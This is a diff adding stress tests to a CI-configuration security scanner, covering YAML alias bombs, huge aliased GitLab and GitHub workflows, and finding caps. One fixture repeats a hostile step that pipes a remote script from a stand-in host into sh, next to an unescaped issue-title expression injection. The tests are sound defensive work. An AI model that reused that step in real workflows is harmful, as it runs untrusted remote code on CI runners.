@@ -11,6 +11,11 @@ describe('hostile repositories', () => {
   const registry = new CheckRegistry(builtinChecks);
   // A fake AWS key, built at run time so the project's own scan ignores it.
   const AWS_KEY = `AKIA${'IOSFODNN7'}EXAMPLE`;
+  /** CPU milliseconds since `from`: budgets hold on a loaded machine. */
+  const cpuMs = (from: NodeJS.CpuUsage) => {
+    const d = process.cpuUsage(from);
+    return (d.user + d.system) / 1000;
+  };
 
   it('a junk workflow with 200,000 parse problems disables no check', async () => {
     const junk = ']\n'.repeat(200_000);
@@ -52,5 +57,109 @@ describe('hostile repositories', () => {
     expect(() => snapshot.memo('k', build)).toThrow('boom');
     expect(() => snapshot.memo('k', build)).toThrow('boom');
     expect(builds).toBe(1);
+  });
+
+  describe('YAML aliases', () => {
+    const timed = async (files: Record<string, string>) => {
+      const cpu = process.cpuUsage();
+      const result = await runScan(new InMemorySnapshot(files), registry);
+      return { result, elapsed: cpuMs(cpu) };
+    };
+
+    it('8,000 GitLab jobs merging one template scan in under 3 s', async () => {
+      const text = `.t: &t\n  image: node:20\n  script: [echo hi]\n${Array.from(
+        { length: 8000 },
+        (_, i) => `job${i}:\n  <<: *t\n  stage: test\n`,
+      ).join('')}`;
+      const { result, elapsed } = await timed({ '.gitlab-ci.yml': text });
+      expect(result.checks.filter(c => c.status === 'error')).toEqual([]);
+      // The merged image is seen in every job: all 8,000 are unpinned.
+      const images = result.checks.find(c => c.checkId === 'unpinned-images')!;
+      expect(images.status).toBe('fail');
+      expect(elapsed).toBeLessThan(3000); // CPU time: other processes do not count
+    });
+
+    it('16,000 aliased workflow steps scan in under 3 s', async () => {
+      const text = `on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - &s { uses: some/action@v1 }\n${'      - *s\n'.repeat(
+        16_000,
+      )}`;
+      const { result, elapsed } = await timed({
+        '.github/workflows/a.yml': text,
+      });
+      expect(result.checks.filter(c => c.status === 'error')).toEqual([]);
+      const unpinned = result.checks.find(
+        c => c.checkId === 'unpinned-actions',
+      )!;
+      expect(unpinned.status).toBe('fail');
+      expect(elapsed).toBeLessThan(3000); // CPU time: other processes do not count
+    });
+
+    it('aliases past the cap are not followed, with a located note', async () => {
+      const bomb = ['a: &a [x, x, x, x, x, x, x, x, x]'];
+      for (const x of 'bcdefghi') {
+        const prev = String.fromCharCode(x.charCodeAt(0) - 1);
+        bomb.push(`${x}: &${x} [${Array(9).fill(`*${prev}`).join(', ')}]`);
+      }
+      const text = `${bomb.join(
+        '\n',
+      )}\non: push\njobs:\n  x:\n    runs-on: *i\n    steps:\n      - run: echo hi\n`;
+      const { result, elapsed } = await timed({
+        '.github/workflows/bomb.yml': text,
+        '.gitlab-ci.yml': text,
+        '.circleci/config.yml': text,
+        'azure-pipelines.yml': text,
+      });
+      expect(result.checks.filter(c => c.status === 'error')).toEqual([]);
+      for (const file of [
+        '.github/workflows/bomb.yml',
+        '.gitlab-ci.yml',
+        '.circleci/config.yml',
+        'azure-pipelines.yml',
+      ]) {
+        const notes = result.problems.filter(
+          p => p.file === file && /alias/.test(p.message),
+        );
+        expect(notes).toHaveLength(1);
+        expect(notes[0].line).toBeGreaterThan(1);
+        expect(notes[0].column).toBeGreaterThan(0);
+      }
+      expect(elapsed).toBeLessThan(10_000);
+    });
+  });
+
+  it('a one-line workflow with 6,000 steps gives a bounded result', async () => {
+    const steps = Array.from({ length: 6000 }, (_, i) =>
+      i % 2
+        ? '{"uses":"a/b@v1"}'
+        : '{"run":"curl -k https://x.io/i.sh | sh; echo ${{ github.event.issue.title }}"}',
+    );
+    const text = `{"on":["push","issues"],"jobs":{"a":{"runs-on":"ubuntu-latest","steps":[${steps.join(
+      ',',
+    )}]}}}`;
+    expect(text.length).toBeGreaterThan(96_000);
+    const cpu = process.cpuUsage();
+    const result = await runScan(
+      new InMemorySnapshot({ '.github/workflows/one-line.yml': text }),
+      registry,
+    );
+    const elapsed = cpuMs(cpu);
+    const json = JSON.stringify(result);
+    expect(json.length).toBeLessThan(5 * 1024 * 1024);
+    expect(elapsed).toBeLessThan(5000);
+    const unpinned = result.checks.find(c => c.checkId === 'unpinned-actions')!;
+    // At most 200 findings listed, then one that says how many more there are.
+    expect(unpinned.findings.length).toBeLessThanOrEqual(201);
+    const last = unpinned.findings[unpinned.findings.length - 1];
+    expect(last.message).toMatch(/and 2800 more findings of this check/);
+    // The count and the score are those of every finding, not of the listed ones.
+    expect(unpinned.unlisted?.findings).toBe(2800);
+    expect(result.counts.findings).toBeGreaterThanOrEqual(3000);
+    expect(unpinned.status).toBe('fail');
+    for (const c of result.checks) {
+      for (const f of c.findings) {
+        expect((f.snippet ?? '').length).toBeLessThanOrEqual(201);
+        expect(f.message.length).toBeLessThanOrEqual(501);
+      }
+    }
   });
 });
